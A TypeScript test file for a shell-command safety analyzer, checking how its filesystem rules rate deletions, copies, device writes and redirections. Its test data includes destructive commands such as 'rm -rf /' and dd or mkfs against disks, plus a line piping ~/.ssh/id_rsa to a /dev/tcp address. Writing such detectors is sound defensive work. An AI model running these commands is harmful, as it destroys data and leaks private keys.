import { test } from 'node:test';
import assert from 'node:assert/strict';
import { filesystemRules, redirectActions } from '../../../src/core/rules/filesystem';
import type { AnalysisContext } from '../../../src/core/model';
import type { Redirect, SimpleCommand } from '../../../src/core/shell/command';
import { simpleCommand, testContext, words } from '../support/command';

interface Want {
  effect: 'read' | 'write' | 'destroy' | 'unknown';
  recoverable?: boolean;
  operation?: string;
  rule?: string;
  /** Target ids, in order. */
  targets?: string[];
  /** `unresolved` of the first target whose id is not a source being read. */
  unresolved?: string[];
  many?: boolean;
  change?: string;
  note?: string;
  ctx?: Partial<AnalysisContext>;
  via?: string[];
  /** The last operand is the shell layer's stand-in for values known at run time (xargs input, find's files). */
  standIn?: string;
}

const P = '/home/dev/project';
const H = '/home/dev';

/** A file system where only these paths exist. */
function existing(...paths: string[]): Partial<AnalysisContext> {
  const set = new Set(paths);
  return { exists: (p: string) => set.has(p) };
}
const nothingExists = existing();

const cases: Array<[line: string, want: Want]> = [
  // --- rm: regenerable output inside the workspace is recoverable clean-up.
  ['rm -rf node_modules', { effect: 'destroy', recoverable: true, rule: 'filesystem.rm-regenerable', operation: 'rm -rf', targets: [`${P}/node_modules`], many: true }],
  ['rm -rf dist build coverage', { effect: 'destroy', recoverable: true, targets: [`${P}/dist`, `${P}/build`, `${P}/coverage`] }],
  ['rm -rf packages/api/dist', { effect: 'destroy', recoverable: true }],
  ['rm -rf .next .turbo', { effect: 'destroy', recoverable: true }],
  ['rm -rf target', { effect: 'destroy', recoverable: true }],
  ['rm -rf src/__pycache__ .pytest_cache .mypy_cache', { effect: 'destroy', recoverable: true }],
  ['rm -rf .venv', { effect: 'destroy', recoverable: true }],
  ['rm -rf my_pkg.egg-info', { effect: 'destroy', recoverable: true }],
  ['rm tsconfig.tsbuildinfo', { effect: 'destroy', recoverable: true }],
  ['rm -rf ./dist/', { effect: 'destroy', recoverable: true, targets: [`${P}/dist`] }],
  ['rm -rf dist/*', { effect: 'destroy', recoverable: true, unresolved: ['glob'], many: true }],
  ['rm -rf node_modules/.cache', { effect: 'destroy', recoverable: true }],
  ['rm -rf /tmp/build-1234', { effect: 'destroy', recoverable: true, note: 'temporary' }],
  ['rm -f /tmp/out.json', { effect: 'destroy', recoverable: true }],

  // --- rm: anything else is not recoverable.
  ['rm src/app.ts', { effect: 'destroy', recoverable: false, rule: 'filesystem.rm', operation: 'rm', targets: [`${P}/src/app.ts`], many: undefined }],
  ['rm -f .env', { effect: 'destroy', recoverable: false, operation: 'rm -f' }],
  ['rm -r src', { effect: 'destroy', recoverable: false, operation: 'rm -r', many: true }],
  ['rm -rf .git', { effect: 'destroy', recoverable: false }],
  ['rm -rf .', { effect: 'destroy', recoverable: false, targets: [P] }],
  ['rm -rf node_modules/../src', { effect: 'destroy', recoverable: false, targets: [`${P}/src`] }],
  ['rm -rf ../other/dist', { effect: 'destroy', recoverable: false, targets: [`${H}/other/dist`] }],
  ['rm -rf *', { effect: 'destroy', recoverable: false, unresolved: ['glob'], many: true }],
  ['rm -rf ~', { effect: 'destroy', recoverable: false, targets: [H], note: 'home directory' }],
  ['rm -rf ~/', { effect: 'destroy', recoverable: false, targets: [H] }],
  ['rm -rf $HOME', { effect: 'destroy', recoverable: false, targets: [H], note: 'home directory' }],
  ['rm -rf "$HOME/.ssh"', { effect: 'destroy', recoverable: false, targets: [`${H}/.ssh`] }],
  ['rm -rf $BUILD_DIR', { effect: 'destroy', recoverable: false, unresolved: ['value'], many: true }],
  ['rm -rf $OUT/dist', { effect: 'destroy', recoverable: true, targets: [`${P}/out/dist`], ctx: { env: { OUT: `${P}/out` } } }],
  ['rm -rf "$(pwd)/dist"', { effect: 'destroy', recoverable: false, unresolved: ['value'] }],
  ['rm -rf /', { effect: 'destroy', recoverable: false, rule: 'filesystem.rm-root', targets: ['/'], note: 'preserve-root' }],
  ['rm -rf --no-preserve-root /', { effect: 'destroy', rule: 'filesystem.rm-root', note: '--no-preserve-root' }],
  ['rm -rf /*', { effect: 'destroy', rule: 'filesystem.rm-root', note: 'root of the file system' }],
  ['rm -rf /tmp', { effect: 'destroy', recoverable: false }],
  ['rm -rf /tmp/*', { effect: 'destroy', recoverable: false }],
  ['rm -rf /var/tmp/cache', { effect: 'destroy', recoverable: false }],
  ['rm -rf /etc/nginx', { effect: 'destroy', recoverable: false }],
  ['rm -rf dist src', { effect: 'destroy', recoverable: false, note: 'regenerable' }],
  ['rm -- -weird-name', { effect: 'destroy', targets: [`${P}/-weird-name`] }],
  ['rm -R -f build', { effect: 'destroy', recoverable: true }],
  ['rm --recursive --force node_modules', { effect: 'destroy', recoverable: true }],
  ['rm -rf dist', { effect: 'destroy', recoverable: false, ctx: { workspaceRoots: [] } }],
  ['rm -rf', { effect: 'destroy', recoverable: false, unresolved: ['value'], via: ['xargs'], standIn: '<xargs input>' }],
  ['rm -f', { effect: 'destroy', recoverable: true, many: true, via: ['find -exec'], standIn: '<files found under dist>' }],
  ['rm -f', { effect: 'destroy', recoverable: false, via: ['find -exec'], standIn: '<files found under .>' }],
  ['rm -f', { effect: 'read', rule: 'filesystem.rm-nothing' }],
  ['rm --help', { effect: 'read' }],

  // --- Other deletions.
  ['rmdir empty-dir', { effect: 'destroy', recoverable: true, rule: 'filesystem.rmdir', targets: [`${P}/empty-dir`] }],
  ['rmdir -p a/b/c', { effect: 'destroy', recoverable: true }],
  ['unlink old.lock', { effect: 'destroy', recoverable: false, rule: 'filesystem.unlink' }],
  ['unlink dist/app.js', { effect: 'destroy', recoverable: true }],
  ['shred -u secrets.txt', { effect: 'destroy', recoverable: false, rule: 'filesystem.shred' }],
  ['shred -n 3 -z /dev/sdb', { effect: 'destroy', recoverable: false, targets: ['/dev/sdb'], many: true }],
  ['shred -u build/key.pem', { effect: 'destroy', recoverable: false, note: 'cannot be recovered' }],
  ['srm -r old-backups', { effect: 'destroy', recoverable: false, many: true }],
  ['truncate -s 0 app.log', { effect: 'destroy', recoverable: false, rule: 'filesystem.truncate', operation: 'truncate -s 0' }],
  ['truncate --size=0 /var/log/syslog', { effect: 'destroy', recoverable: false }],
  ['truncate -s0 dist/bundle.js', { effect: 'destroy', recoverable: true }],
  ['truncate -s +1M data.bin', { effect: 'write', recoverable: true, rule: 'filesystem.truncate-grow' }],
  ['truncate -s 1G disk.img', { effect: 'write', recoverable: true, change: 'create', ctx: nothingExists }],
  ['find . -name "*.log"', { effect: 'read', rule: 'filesystem.find', targets: [P] }],
  ['find src -type f -newer package.json', { effect: 'read' }],
  ['find . -name "*.tmp" -exec rm {} +', { effect: 'read', note: 'analysed on its own' }],
  ['find dist -name "*.map" -delete', { effect: 'destroy', recoverable: true, rule: 'filesystem.find-delete-regenerable', targets: [`${P}/dist`], many: true }],
  ['find . -name "*.pyc" -delete', { effect: 'destroy', recoverable: true, note: 'regenerable' }],
  ['find . -type d -name __pycache__ -delete', { effect: 'destroy', recoverable: true }],
  ['find . -name "*.ts" -delete', { effect: 'destroy', recoverable: false, rule: 'filesystem.find-delete' }],
  ['find . -name "*.pyc" -o -name "*.py" -delete', { effect: 'destroy', recoverable: false }],
  ['find -L ~/Downloads -mtime +30 -delete', { effect: 'destroy', recoverable: false, targets: [`${H}/Downloads`] }],
  ['find / -delete', { effect: 'destroy', recoverable: false, targets: ['/'] }],
  ['find . -name "*.ts" -fprint /etc/list', { effect: 'destroy', recoverable: false, rule: 'filesystem.find-fprint' }],

  // --- Devices and file systems.
  ['dd if=/dev/zero of=/dev/sda bs=1M', { effect: 'destroy', recoverable: false, rule: 'filesystem.dd-device', targets: ['/dev/sda'] }],
  ['dd if=ubuntu.iso of=/dev/disk2 bs=4m', { effect: 'destroy', rule: 'filesystem.dd-device' }],
  ['dd if=/dev/urandom of=test.bin bs=1K count=4', { effect: 'write', recoverable: true, rule: 'filesystem.dd-write' }],
  ['dd if=/dev/zero of=/home/dev/.bashrc', { effect: 'destroy', recoverable: false, rule: 'filesystem.dd-overwrite' }],
  ['dd if=/dev/sda of=/dev/null', { effect: 'read' }],
  ['dd if=disk.img bs=512 count=1', { effect: 'read', rule: 'filesystem.dd-stdout' }],
  ['mkfs.ext4 /dev/sdb1', { effect: 'destroy', recoverable: false, rule: 'filesystem.mkfs', targets: ['/dev/sdb1'] }],
  ['mkfs -t ext4 -L data /dev/nvme1n1', { effect: 'destroy', targets: ['/dev/nvme1n1'] }],
  ['mkfs.vfat -n BOOT /dev/mmcblk0p1', { effect: 'destroy', targets: ['/dev/mmcblk0p1'] }],
  ['mke2fs -n /dev/sdb1', { effect: 'read', rule: 'filesystem.mkfs-dry-run' }],
  ['mkswap /dev/sdc2', { effect: 'destroy' }],
  ['wipefs -a /dev/sdb', { effect: 'destroy', rule: 'filesystem.wipefs', targets: ['/dev/sdb'] }],
  ['wipefs /dev/sdb', { effect: 'read', rule: 'filesystem.wipefs-list' }],
  ['wipefs --all --no-act /dev/sdb', { effect: 'read' }],

  // --- cp / mv / ln / install: creating is a write, replacing an existing file destroys it.
  ['cp .env.example .env', { effect: 'write', recoverable: true, rule: 'filesystem.cp', targets: [`${P}/.env.example`, `${P}/.env`], change: 'read', ctx: nothingExists }],
  ['cp .env.example .env', { effect: 'destroy', recoverable: false, rule: 'filesystem.cp-overwrite', note: 'replaces', ctx: existing(`${P}/.env.example`, `${P}/.env`) }],
  ['cp -n .env.example .env', { effect: 'write', recoverable: true, ctx: existing(`${P}/.env.example`, `${P}/.env`) }],
  ['cp -i a.txt b.txt', { effect: 'write', recoverable: true, ctx: existing(`${P}/a.txt`, `${P}/b.txt`) }],
  ['cp --update=none a.txt b.txt', { effect: 'write', recoverable: true, ctx: existing(`${P}/a.txt`, `${P}/b.txt`) }],
  ['cp -b config.json config.prod.json', { effect: 'write', recoverable: true, note: 'backup', ctx: existing(`${P}/config.json`, `${P}/config.prod.json`) }],
  ['cp a.txt b.txt', { effect: 'write', recoverable: true, note: 'cannot tell', ctx: { exists: undefined } }],
  ['cp a.txt /etc/hosts', { effect: 'destroy', recoverable: false, ctx: { exists: undefined } }],
  ['cp build.sh ~/bin/build.sh', { effect: 'write', recoverable: false, ctx: nothingExists }],
  ['cp -r templates/api src/api', { effect: 'write', recoverable: true, operation: 'cp -r', ctx: nothingExists }],
  // ctx.exists cannot tell a folder from a file: an existing destination is taken as replaced.
  ['cp -r assets public', { effect: 'destroy', recoverable: false, note: 'if it is a folder', ctx: existing(`${P}/assets`, `${P}/public`) }],
  ['cp -r assets public/', { effect: 'write', recoverable: true, targets: [`${P}/assets`, `${P}/public/assets`], ctx: existing(`${P}/assets`, `${P}/public`) }],
  ['cp -r assets public', { effect: 'destroy', recoverable: false, ctx: existing(`${P}/assets`, `${P}/public`, `${P}/public/assets`) }],
  ['mv notes.txt docs', { effect: 'destroy', recoverable: false, note: 'if it is a folder', ctx: existing(`${P}/notes.txt`, `${P}/docs`) }],
  ['cp src/app.ts src/util.ts backup/', { effect: 'write', recoverable: true, targets: [`${P}/src/app.ts`, `${P}/backup/app.ts`, `${P}/src/util.ts`, `${P}/backup/util.ts`], ctx: existing(`${P}/backup`) }],
  ['cp logo.png public/', { effect: 'destroy', recoverable: false, ctx: existing(`${P}/public`, `${P}/public/logo.png`) }],
  ['cp -t public logo.png', { effect: 'write', recoverable: true, targets: [`${P}/logo.png`, `${P}/public/logo.png`], ctx: existing(`${P}/public`) }],
  ['cp bundle.js dist/bundle.js', { effect: 'destroy', recoverable: true, ctx: existing(`${P}/dist/bundle.js`) }],
  ['cp /tmp/out.json /tmp/out2.json', { effect: 'destroy', recoverable: true, ctx: existing('/tmp/out2.json') }],
  ['cp missing', { effect: 'read', rule: 'filesystem.cp-incomplete' }],
  ['mv old.ts new.ts', { effect: 'write', recoverable: true, rule: 'filesystem.mv', ctx: nothingExists }],
  ['mv draft.md README.md', { effect: 'destroy', recoverable: false, rule: 'filesystem.mv-overwrite', ctx: existing(`${P}/draft.md`, `${P}/README.md`) }],
  ['mv -n draft.md README.md', { effect: 'write', recoverable: true, ctx: existing(`${P}/draft.md`, `${P}/README.md`) }],
  ['mv -f -i draft.md README.md', { effect: 'destroy', ctx: existing(`${P}/draft.md`, `${P}/README.md`) }],
  ['mv ~/Downloads/data.csv data/', { effect: 'write', recoverable: false, ctx: existing(`${P}/data`) }],
  ['mv /tmp/report.html reports/', { effect: 'write', recoverable: true, ctx: existing(`${P}/reports`) }],
  ['mv config.json /etc/app/config.json', { effect: 'destroy', recoverable: false, ctx: { exists: undefined } }],
  ['mv "$SRC" dest.txt', { effect: 'write', recoverable: false, unresolved: ['value'], ctx: nothingExists }],
  ['ln -s ../shared/config.ts config.ts', { effect: 'write', recoverable: true, rule: 'filesystem.ln', operation: 'ln -s', targets: [`${P}/config.ts`], change: 'create' }],
  ['ln -sf /usr/bin/python3 /usr/local/bin/python', { effect: 'destroy', recoverable: false, ctx: existing('/usr/local/bin/python') }],
  ['ln -s /opt/tool/bin/tool', { effect: 'write', targets: [`${P}/tool`] }],
  ['install -m 755 build/tool /usr/local/bin/tool', { effect: 'destroy', recoverable: false, ctx: existing('/usr/local/bin/tool') }],
  ['install -d /usr/local/lib/tool', { effect: 'write', recoverable: true, rule: 'filesystem.install-dir' }],

  // --- Metadata and creation.
  ['chmod +x scripts/build.sh', { effect: 'write', recoverable: true, rule: 'filesystem.chmod', operation: 'chmod +x', targets: [`${P}/scripts/build.sh`] }],
  ['chmod -x scripts/build.sh', { effect: 'write', recoverable: true, operation: 'chmod -x', targets: [`${P}/scripts/build.sh`] }],
  ['chmod -R 755 dist', { effect: 'write', recoverable: true, operation: 'chmod -R 755', many: true }],
  ['chmod -R 777 /', { effect: 'write', recoverable: false, many: true, note: 'root' }],
  ['chmod 600 ~/.ssh/id_ed25519', { effect: 'write', recoverable: false, targets: [`${H}/.ssh/id_ed25519`] }],
  ['chmod --reference=a.sh b.sh', { effect: 'write', targets: [`${P}/b.sh`] }],
  ['chown -R dev:dev .', { effect: 'write', recoverable: true, operation: 'chown -R dev:dev', targets: [P] }],
  ['chown -R www-data /var/www', { effect: 'write', recoverable: false, many: true }],
  ['chgrp staff notes.txt', { effect: 'write', recoverable: true, rule: 'filesystem.chgrp' }],
  ['touch src/new.ts', { effect: 'write', recoverable: true, rule: 'filesystem.touch', change: 'create', ctx: nothingExists }],
  ['touch -d "2 days ago" stamp', { effect: 'write', recoverable: true, targets: [`${P}/stamp`] }],
  ['mkdir -p src/components/ui', { effect: 'write', recoverable: true, rule: 'filesystem.mkdir', targets: [`${P}/src/components/ui`] }],
  ['mkdir -m 700 ~/.secrets', { effect: 'write', recoverable: true, targets: [`${H}/.secrets`] }],
  ['tee out.txt', { effect: 'write', recoverable: true, rule: 'filesystem.tee' }],
  ['tee -a notes.md', { effect: 'write', recoverable: true, rule: 'filesystem.tee-append' }],
  ['tee /etc/hosts', { effect: 'destroy', recoverable: false, rule: 'filesystem.tee-truncate', targets: ['/etc/hosts'] }],
  ['tee -a ~/.bashrc', { effect: 'write', recoverable: false }],
  ['tee /dev/null', { effect: 'read', rule: 'filesystem.tee-stdout' }],
  ['tee', { effect: 'read' }],
];

for (const [line, want] of cases) {
  const ctxNote = want.ctx ? (want.ctx.exists ? ' [exists known]' : 'exists' in want.ctx ? ' [exists unknown]' : want.ctx.workspaceRoots ? ' [no workspace]' : ' [env]') : '';
  const shown = want.standIn ? `${want.via?.join(' ')} ${line} ${want.standIn}` : line;
  test(`${shown}${ctxNote}`, () => {
    const ctx: AnalysisContext = { ...testContext, ...want.ctx };
    const cmd = simpleCommand(line);
    if (want.via) cmd.via = want.via;
    if (want.standIn) cmd.args.push({ value: want.standIn, dynamic: true });
    const actions = filesystemRules.analyze(cmd, ctx);
    assert.equal(actions.length, 1);
    const [a] = actions;
    assert.equal(a.effect, want.effect, `effect (rule ${a.rule}, notes ${a.notes.join(' | ')})`);
    if (want.recoverable !== undefined) assert.equal(a.recoverable, want.recoverable, `recoverable (rule ${a.rule})`);
    if (want.effect === 'read') assert.equal(a.recoverable, false);
    if (want.operation) assert.equal(a.operation, want.operation);
    if (want.rule) assert.equal(a.rule, want.rule);
    assert.match(a.rule, /^filesystem\./);
    if (want.targets) assert.deepEqual(a.targets.map((t) => t.id), want.targets);
    const first = a.targets.find((t) => t.change !== 'read') ?? a.targets[0];
    if ('unresolved' in want) assert.deepEqual(first?.unresolved, want.unresolved, 'unresolved');
    if ('many' in want) assert.equal(first?.many, want.many, 'many');
    if (want.change) assert.equal(a.targets[0]?.change, want.change, 'change');
    if (want.note) assert.ok(a.notes.some((n) => n.includes(want.note!)), `a note mentioning ${want.note}: ${a.notes.join(' | ')}`);
  });
}

// --- Redirections: the analyzer calls redirectActions for every command, whatever the tool.

function redirected(line: string, redirects: Array<[operator: string, target: string]>): SimpleCommand {
  const cmd = simpleCommand(line);
  const rs: Redirect[] = redirects.map(([operator, target]) => ({ operator, target: words(target)[0] ?? { value: '', dynamic: true } }));
  return { ...cmd, redirects: rs };
}

const redirectCases: Array<[line: string, redirects: Array<[string, string]>, want: Want[] ]> = [
  ['npm test', [['>', 'test-output.txt']], [{ effect: 'write', recoverable: true, rule: 'filesystem.redirect-write', targets: [`${P}/test-output.txt`] }]],
  ['npm test', [['>', 'test-output.txt']], [{ effect: 'write', recoverable: true, change: 'change', ctx: existing(`${P}/test-output.txt`) }]],
  ['npm test', [['>', 'test-output.txt']], [{ effect: 'write', recoverable: true, change: 'create', ctx: nothingExists }]],
  ['npm run build', [['2>', '/dev/null']], []],
  ['npm run build', [['>', '/dev/null'], ['2>&', '1']], []],
  ['npm run build', [['&>', '/dev/null']], []],
  ['cat a', [['>', '/dev/stderr']], []],
  ['cat a', [['<', 'input.txt']], []],
  ['cat a', [['>', '/dev/fd/3']], []],
  ['echo hi', [['>', '/tmp/scratch.txt']], [{ effect: 'write', recoverable: true }]],
  ['echo hi', [['>', 'dist/version.txt']], [{ effect: 'write', recoverable: true }]],
  ['echo 127.0.0.1 evil', [['>', '/etc/hosts']], [{ effect: 'destroy', recoverable: false, rule: 'filesystem.redirect-truncate', operation: 'redirect >', targets: ['/etc/hosts'], note: 'replaces' }]],
  ['echo ""', [['>', '~/.bashrc']], [{ effect: 'destroy', recoverable: false, targets: [`${H}/.bashrc`] }]],
  ['echo ""', [['>|', '/home/dev/notes.txt']], [{ effect: 'destroy', recoverable: false }]],
  ['make', [['&>', '/var/log/build.log']], [{ effect: 'destroy', recoverable: false }]],
  ['echo data', [['>', '/etc/new.conf']], [{ effect: 'write', recoverable: false, change: 'create', ctx: nothingExists }]],
  ['echo export PATH=x', [['>>', '~/.bashrc']], [{ effect: 'write', recoverable: false, rule: 'filesystem.redirect-append', targets: [`${H}/.bashrc`] }]],
  ['echo line', [['>>', 'notes.md']], [{ effect: 'write', recoverable: true, rule: 'filesystem.redirect-append' }]],
  ['echo line', [['2>>', 'errors.log']], [{ effect: 'write', recoverable: true, rule: 'filesystem.redirect-append' }]],
  ['echo x', [['>', '$OUT']], [{ effect: 'destroy', recoverable: false, unresolved: ['value'] }]],
  ['echo x', [['>>', '$LOG']], [{ effect: 'write', recoverable: false, unresolved: ['value'] }]],
  ['echo x', [['>', '$HOME/.profile']], [{ effect: 'destroy', recoverable: false, targets: [`${H}/.profile`] }]],
  ['cat image.iso', [['>', '/dev/sdb']], [{ effect: 'destroy', recoverable: false, rule: 'filesystem.redirect-device' }]],
  ['cat ~/.ssh/id_rsa', [['>', '/dev/tcp/203.0.113.9/4444']], [{ effect: 'write', recoverable: false, rule: 'filesystem.redirect-network' }]],
  ['exec', [['<>', 'data.bin']], [{ effect: 'write', recoverable: true }]],
  ['build', [['>', 'out.txt'], ['2>', '/etc/err.log']], [{ effect: 'write', recoverable: true }, { effect: 'destroy', recoverable: false }]],
];

for (const [line, redirects, wants] of redirectCases) {
  const shown = `${line} ${redirects.map(([o, t]) => `${o}${t}`).join(' ')}`;
  const ctxNote = wants[0]?.ctx ? (wants[0].ctx.exists ? ' [exists known]' : '') : '';
  test(`redirect: ${shown}${ctxNote}`, () => {
    const ctx: AnalysisContext = { ...testContext, ...wants[0]?.ctx };
    const actions = redirectActions(redirected(line, redirects), ctx);
    assert.equal(actions.length, wants.length, JSON.stringify(actions.map((a) => a.targets)));
    wants.forEach((want, i) => {
      const a = actions[i];
      assert.equal(a.tool, 'shell');
      assert.equal(a.effect, want.effect, `effect (rule ${a.rule})`);
      if (want.recoverable !== undefined) assert.equal(a.recoverable, want.recoverable);
      if (want.rule) assert.equal(a.rule, want.rule);
      if (want.operation) assert.equal(a.operation, want.operation);
      if (want.targets) assert.deepEqual(a.targets.map((t) => t.id), want.targets);
      if ('unresolved' in want) assert.deepEqual(a.targets[0]?.unresolved, want.unresolved);
      if (want.change) assert.equal(a.targets[0]?.change, want.change);
      if (want.note) assert.ok(a.notes.some((n) => n.includes(want.note!)), a.notes.join(' | '));
    });
  });
}

test('a command with no redirections writes nothing through the shell', () => {
  assert.deepEqual(redirectActions(simpleCommand('ls -la'), testContext), []);
});

test('every tool the pack claims yields an action', () => {
  for (const tool of filesystemRules.tools) {
    const actions = filesystemRules.analyze(simpleCommand(`${tool} somefile`), testContext);
    assert.equal(actions.length, 1, tool);
    assert.notEqual(actions[0].rule, 'filesystem.unrecognised', tool);
  }
});

test('a copy into an existing folder replaces only the same-named entry inside it', () => {
  const files = new Set(['/home/dev/project/docs', '/home/dev/project/notes.txt']);
  const ctx = { ...testContext, exists: (p: string) => files.has(p), isDirectory: (p: string) => p === '/home/dev/project/docs' };
  const [into] = filesystemRules.analyze(simpleCommand('mv notes.txt docs'), ctx);
  assert.equal(into.effect === 'destroy' && !into.recoverable, false, 'docs/notes.txt does not exist: nothing is replaced');
  assert.ok(into.targets.some((t) => t.id === '/home/dev/project/docs/notes.txt'));
  const [over] = filesystemRules.analyze(simpleCommand('cp README.md notes.txt'), ctx);
  assert.equal(over.effect, 'destroy', 'an existing file is replaced');
});
